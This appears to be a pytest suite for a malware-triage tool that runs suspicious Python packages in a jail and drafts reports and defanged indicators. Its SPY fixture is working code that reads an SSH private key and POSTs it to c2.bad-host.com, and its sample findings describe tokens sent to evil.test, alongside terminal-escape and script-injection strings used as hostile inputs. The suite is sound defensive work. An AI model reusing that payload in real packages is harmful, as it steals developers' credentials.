"""A file in hand, the samples, and the drafts of a report: what people do with a package that the
index does not have."""

import hashlib
import json
import os
import stat
import subprocess
from pathlib import Path
from typing import Any

import pytest
from conftest import Snakehook, give
from standins import Index, backend_sdist, sdist, wheel

import snakehook as service
from jail.command.in_hand import InHand
from snakehook import Result, ServiceError, Store, TriageRequest

# At the time when pip builds it, so that one jail is enough.
SPY = """
import os, urllib.request
stolen = open("/home/dev/.ssh/id_rsa", "rb").read()
try:
    request = urllib.request.Request("https://c2.bad-host.com/gate/in.php?who=me", data=stolen)
    urllib.request.urlopen(request, timeout=5).read()
except OSError:
    pass
try:
    urllib.request.urlopen("https://api.ipify.org/", timeout=5).read()
except OSError:
    pass
"""
NAME, DATA = backend_sdist("spy", "1.0", SPY, {"spy.py": ""})
DIGEST = hashlib.sha256(DATA).hexdigest()


def lay(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    path.chmod(0o600)
    give(path)
    return path


def test_from_a_file_in_hand_to_a_draft(program: Snakehook, index: Index) -> None:
    """As each of two users: the file, its sample, the same release once more, and its report."""
    home = program.state.parent
    if program.state.stat().st_uid == 0:
        file = home / NAME
        file.write_bytes(DATA)
        file.chmod(0o600)
    else:
        file = lay(home, NAME, DATA)
    index.add_wheel("spy", "2.0", {"spy.py": ""})
    done = program.run("triage", str(file), "--json")
    assert done.returncode == 1, done.stderr
    first = json.loads(done.stdout)
    assert first["request"] == first["request"] | {"package_name": "spy", "version": "1.0"}
    assert first["downloads"] == [
        {"file": NAME, "bytes": len(DATA), "sha256": DIGEST, "from_cache": True, "url": ""}
    ]
    assert f"a file in hand was used, not the index's: {NAME}" in first["coverage"]["notes"]
    assert not [path for _, path in index.requests if "spy" in path]
    told = {(item["kind"], item["value"]) for item in first["indicators"]}
    assert told == {
        ("sha256", DIGEST),
        ("name", "c2.bad-host.com"),
        ("url", "https://c2.bad-host.com/gate/in.php"),
    }

    # What was kept, and for whom.
    samples = program.state / "samples"
    assert stat.S_IMODE(samples.stat().st_mode) == 0o700
    assert (samples / f"{DIGEST}.sample").read_bytes() == DATA
    assert stat.S_IMODE((samples / f"{DIGEST}.sample").stat().st_mode) == 0o400
    (line,) = program.run("samples").stdout.splitlines()
    assert line.split()[:3] == ["spy", "1.0", "high"]
    assert line.split()[-2:] == [NAME, DIGEST]
    out = home / "out"
    done = program.run("samples", "Spy", "1.0.0", "--to", str(out))
    assert done.stdout.split() == [str(out / f"{DIGEST}.sample")]
    assert (out / f"{DIGEST}.sample").read_bytes() == DATA
    assert not (out / f"{DIGEST}.sample").stat().st_mode & 0o111
    assert program.run("samples", "spy", "1.0", "--to", str(out)).returncode == 2
    assert program.run("samples", "spy", "3.0", "--to", str(out)).returncode == 2

    # The release is gone, and yet it is run.
    code, again, err = program.triage("spy")
    assert code == 1, err
    (note,) = [note for note in again["coverage"]["notes"] if "kept sample" in note]
    assert DIGEST in note and "no such version" in note
    assert again["request"]["artifact"] is None

    saved = home / "report.json"
    saved.write_text(json.dumps(first))
    saved.chmod(0o644)
    draft = program.run("report", str(saved)).stdout
    for text in (NAME, DIGEST, "made by a machine", "https://c2.bad-host.com/gate/in.php"):
        assert text in draft
    assert "POST" in draft


def test_without_the_index_what_requires_nothing_is_run(
    snakehook: Snakehook, jail: None, tmp_path: Path
) -> None:
    nobody = {"PIP_INDEX_URL": "http://127.0.0.1:9/simple"}
    calm = tmp_path / wheel("calm", "1.0", {})[0]
    calm.write_bytes(wheel("calm", "1.0", {"calm.py": ""})[1])
    done = snakehook.with_settings(**nobody).run("triage", str(calm), "--json")
    report = json.loads(done.stdout)
    assert (done.returncode, report["outcome"], report["verdict"]) == (0, "ok", "clean"), report
    calm.write_bytes(wheel("calm", "1.0", {"calm.py": ""}, requires=["other"])[1])
    done = snakehook.with_settings(**nobody).run("triage", str(calm), "--json")
    report = json.loads(done.stdout)
    assert (done.returncode, report["outcome"]) == (4, "error")
    assert "127.0.0.1:9" in report["reason"]


def test_what_is_no_file_in_hand_is_one_sentence(tmp_path: Path) -> None:
    name, data = sdist("calm", "1.0", {"calm.py": ""})
    good = lay(tmp_path, name, data)
    (tmp_path / "links").mkdir()
    (tmp_path / "links" / name).symlink_to(good)
    (tmp_path / "folder-1.0.tar.gz").mkdir()
    os.mkfifo(tmp_path / "pipe-1.0.tar.gz")
    large = lay(tmp_path, "large-1.0.tar.gz", b"\x1f\x8b\x08")
    os.truncate(large, 1 << 40)
    lay(tmp_path, "odd name.txt", data)
    lay(tmp_path, "calm.tar.gz", data)
    lay(tmp_path, "calm-one.whl", data)
    lay(tmp_path, "-1.0.zip", data)
    lay(tmp_path, "calm-1.0-py3-none-any.whl", data)
    lay(tmp_path, "calm-1.0.zip", b"PK\3\4 and no end")
    lay(tmp_path, "empty-1.0.tar.gz", b"")
    lay(tmp_path, "zip-1.0.tar.gz", wheel("zip", "1.0", {})[1])
    lay(tmp_path, "\x1b[2Jx-1.0.tar.gz", data)
    odd = {
        "absent-1.0.tar.gz": "not there",
        f"links/{name}": "link",
        "folder-1.0.tar.gz": "folder",
        "pipe-1.0.tar.gz": "not a file",
        "large-1.0.tar.gz": "larger than 1000000 bytes",
        "odd name.txt": "not named like",
        "calm.tar.gz": "not named like",
        "calm-one.whl": "not named like",
        "-1.0.zip": "not named like",
        "calm-1.0-py3-none-any.whl": "not an archive",
        "calm-1.0.zip": "not an archive",
        "empty-1.0.tar.gz": "not an archive",
        "zip-1.0.tar.gz": "not an archive",
        "\x1b[2Jx-1.0.tar.gz": "not named like",
        "nul\0-1.0.tar.gz": "can't be opened",
        "x" * 5000: "can't be opened",
    }
    for path, word in odd.items():
        with pytest.raises(ServiceError) as told:
            file = InHand(f"{tmp_path}/{path}", 1_000_000)
            file.release()
            file.demand_archive()
        text = str(told.value)
        assert word in text and text.isprintable() and len(text) < 300, path
    file = InHand(str(good), 1_000_000)
    file.demand_archive()
    assert file.release() == {"package_name": "calm", "version": "1.0", "artifact": name}


@pytest.mark.parametrize(
    ("arguments", "blamed"),
    [
        (("triage", "absent-1.0.tar.gz"), "VERSION"),
        (("triage", "FILE", "--artifact", "wheel"), "--artifact"),
        (("triage", "TORCH"), "denylist"),
        (("triage", "WHEEL"), "not an archive"),
        (("samples", "spy"), "--to"),
        (("samples", "spy", "x", "--to", "/"), "VERSION"),
        (("samples", "spy", "1", "--to", "FILE"), "folder"),
        (("report", "0" * 32), "store"),
        (("report", "/absent"), "RUN_ID"),
        (("report", "FILE"), "not a report"),
    ],
)
def test_2_for_what_can_t_be_done(
    snakehook: Snakehook, tmp_path: Path, arguments: tuple[str, ...], blamed: str
) -> None:
    lay(tmp_path, NAME, DATA)
    lay(tmp_path, "torch-2.0.tar.gz", DATA)
    lay(tmp_path, "calm-1.0-py3-none-any.whl", DATA)
    names = {"FILE": NAME, "TORCH": "torch-2.0.tar.gz", "WHEEL": "calm-1.0-py3-none-any.whl"}
    words = [str(tmp_path / names[word]) if word in names else word for word in arguments]
    done = snakehook.run(*words)
    assert (done.returncode, done.stdout) == (2, ""), done
    (line,) = done.stderr.splitlines()
    assert blamed in line


def test_an_ordinary_user_s_right_to_a_file_is_what_counts(ordinary: Snakehook) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root can keep a file from somebody")
    path = ordinary.state.parent / NAME
    path.write_bytes(DATA)
    path.chmod(0o600)
    done = ordinary.run("triage", str(path))
    assert (done.returncode, done.stdout) == (2, "")
    assert "may not be read by you" in done.stderr


def test_no_samples_are_no_fault(snakehook: Snakehook) -> None:
    done = snakehook.run("samples")
    assert (done.returncode, done.stdout) == (0, "")
    assert done.stderr == "No samples are kept.\n"


# The report of a run that the service has stored.


def stored(snakehook: Snakehook, report: dict[str, Any], verdict: str = "high") -> str:
    """The id of a run in the store."""
    store = Store(snakehook.state / service.STORE_NAME)
    run_id = store.add(TriageRequest("spy", "1.0", "install"), 10)
    body = json.dumps(report).encode()
    store.finish(run_id, Result("ok", "", verdict, body, b"{}", b"", b"", b"", ""))
    store.db.close()
    if os.geteuid() == 0:
        # As the service does it, whose user reads the store.
        service.fit_state_dir(snakehook.state, 65533, 65533)
    return run_id


SITE = "/x/site/spy-1.0/lib/python3.11/site-packages"
HOSTILE = "\x1b[2J\u202e</script>"
REPORT: dict[str, Any] = {
    "phases": [],
    "findings": [
        {"severity": "high", "rule": "secret.read", "phase": "install", "trigger": None}
        | {"title": f"reads {HOSTILE}", "at": "/x/pip-install-x_1/spy_ab12/setup.py:3"}
        | {"process": None},
        {"severity": "high", "rule": "network.attempt", "phase": "import", "trigger": "spy"}
        | {"title": "connects (tcp) to 20.1.2.3:443", "at": f"{SITE}/spy/a.py:7"}
        | {"process": None},
        # By the same line as the one before it, and worse.
        {"severity": "high", "rule": "secret.sent", "phase": "import", "trigger": "spy"}
        | {"title": "sends GITHUB_TOKEN to http://evil.test/gate", "at": f"{SITE}/spy/a.py:7"}
        | {"process": None},
        {"severity": "high", "rule": "code.remote", "phase": "import", "trigger": "spy"}
        | {"title": "runs what http://evil.test/abcdef0123 gave", "at": None, "process": None},
    ],
    "downloads": [
        {"file": "spy-1.0.tar.gz", "bytes": 5, "sha256": "cd" * 32, "from_cache": False}
        | {"url": "https://files.test/packages/aa/bb/spy-1.0.tar.gz"},
        {"file": "other-1.0.tar.gz", "bytes": 5, "sha256": "ef" * 32, "from_cache": False}
        | {"url": "https://files.test/packages/cc/dd/other-1.0.tar.gz"},
    ],
    "indicators": [
        {"kind": "sha256", "value": "cd" * 32, "phase": "install", "place": "spy-1.0.tar.gz"},
        {"kind": "name", "value": "evil.test", "phase": "install", "place": "setup.py:3"},
        {"kind": "address", "value": "203.0.113.66", "phase": "install", "place": None},
        {"kind": "url", "value": "http://evil.test/gate", "phase": "install", "place": HOSTILE},
    ],
    "network": [],
    "requests": [
        {"method": "POST", "url": "http://evil.test/gate?x=1", "bait": ["GITHUB_TOKEN"]}
        | {"body": {"bytes": 512, "sha256": "", "text": "", "truncated": False}}
    ],
    "coverage": {"notes": []},
}


@pytest.fixture
def run_id(snakehook: Snakehook) -> str:
    return stored(snakehook, REPORT)


def test_a_draft_has_what_the_form_asks_for(snakehook: Snakehook, run_id: str) -> None:
    done = snakehook.with_settings(INSPECTOR_URL="https://inspector.test").run("report", run_id)
    assert done.returncode == 0, done.stderr
    text = done.stdout
    assert "made by a machine" in text.splitlines()[0]
    assert f"File:    spy-1.0.tar.gz, 5 bytes, sha256 {'cd' * 32}" in text
    base = "https://inspector.test/project/spy/1.0/packages/aa/bb/spy-1.0.tar.gz/spy-1.0/"
    assert f"{base}setup.py#line.3\n" in text
    # Where a module lies in an sdist is not known.
    assert f"{base}\n" in text
    # The worst comes first, and no folder of ours stands in it.
    assert "this is what it does (spy/a.py:7): sends GITHUB_TOKEN to http://evil.test/gate." in text
    assert SITE not in text and "connects (tcp) to [address]:443 (import, spy/a.py:7" in text
    assert "POST http://evil.test/gate, 512 bytes, with the decoys GITHUB_TOKEN" in text
    # What was made up, and what other projects have.
    assert not any(word in text for word in ("20.1.2.3", "abcdef0123", "other-1.0"))
    assert all(line.isprintable() for line in text.splitlines())
    assert "<the index's public inspector>/project/spy" in snakehook.run("report", run_id).stdout


def test_a_draft_of_a_file_in_hand_asks_for_no_inspector(snakehook: Snakehook) -> None:
    downloads = [item | {"url": ""} for item in REPORT["downloads"]]
    text = snakehook.run("report", stored(snakehook, REPORT | {"downloads": downloads})).stdout
    assert "File:    spy-1.0.tar.gz" in text and "inspector" not in text.lower()


def test_an_osv_draft_has_the_fields_of_the_format(snakehook: Snakehook, run_id: str) -> None:
    draft = json.loads(snakehook.run("report", run_id, "--osv").stdout)
    assert draft["schema_version"].split(".")[0] == "1"
    assert draft["id"].startswith("MAL-0000-")
    assert draft["modified"].endswith("Z")
    (affected,) = draft["affected"]
    assert affected["package"]["ecosystem"] == "PyPI"
    assert (affected["package"]["name"], affected["versions"]) == ("spy", ["1.0"])
    assert draft["database_specific"]["iocs"] == {
        "domains": ["evil.test"],
        "urls": ["http://evil.test/gate"],
        "ip_addresses": ["203.0.113.66"],
        "sha256": ["cd" * 32],
    }
    assert draft["references"] == []
    assert draft["credits"] == [{"name": "snakehook", "type": "TOOL"}]
    assert "made by a machine" in draft["details"]


def test_indicators_can_be_followed_by_nobody_s_slip(snakehook: Snakehook, run_id: str) -> None:
    text = snakehook.run("report", run_id, "--indicators").stdout
    for word in ("evil[.]test", "hxxp://evil[.]test/gate", "203[.]0[.]113[.]66", "cd" * 32):
        assert word in text
    assert "evil.test" not in text and "http://" not in text
    assert all(line.isprintable() for line in text.splitlines())
    said = json.loads(snakehook.run("report", run_id, "--indicators", "--json").stdout)
    assert said["indicators"] == REPORT["indicators"]
    assert "made by a machine" in said["note"]


def test_what_found_nothing_is_nothing_to_report(snakehook: Snakehook) -> None:
    clean = stored(snakehook, REPORT | {"findings": []}, "clean")
    done = snakehook.run("report", clean)
    assert (done.returncode, done.stdout) == (2, "")
    assert "nothing to report" in done.stderr


def test_the_store_is_only_read(snakehook: Snakehook, run_id: str) -> None:
    """A service may be at work on it."""
    path = snakehook.state / service.STORE_NAME
    before = path.read_bytes()
    assert snakehook.run("report", run_id).returncode == 0
    assert path.read_bytes() == before


@pytest.mark.parametrize(
    "change",
    [
        {"findings": None},
        {"findings": [{}]},
        {"indicators": [1]},
        {"requests": "x"},
        {"downloads": {"file": 1}},
        {"network": [[]]},
    ],
)
def test_a_report_that_is_none_is_told(
    tmp_path: Path, snakehook: Snakehook, change: dict[str, Any]
) -> None:
    """Nobody knows who wrote the file."""
    head: dict[str, Any] = {"run_id": "0" * 32, "verdict": "high"}
    head |= {"request": {"package_name": "spy", "version": "1.0"}}
    path = tmp_path / "report.json"
    path.write_text(json.dumps(REPORT | head | change))
    done = snakehook.run("report", str(path))
    assert (done.returncode, done.stdout) == (2, ""), done
    assert done.stderr == "That is not a report of this version of snakehook.\n"


def test_a_virtual_file_is_no_trap(snakehook: Snakehook) -> None:
    """What has no end is read as far as a report can be long."""
    done = subprocess.run(
        [*snakehook.command, "report", "/dev/zero"],
        env=snakehook.environment,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2
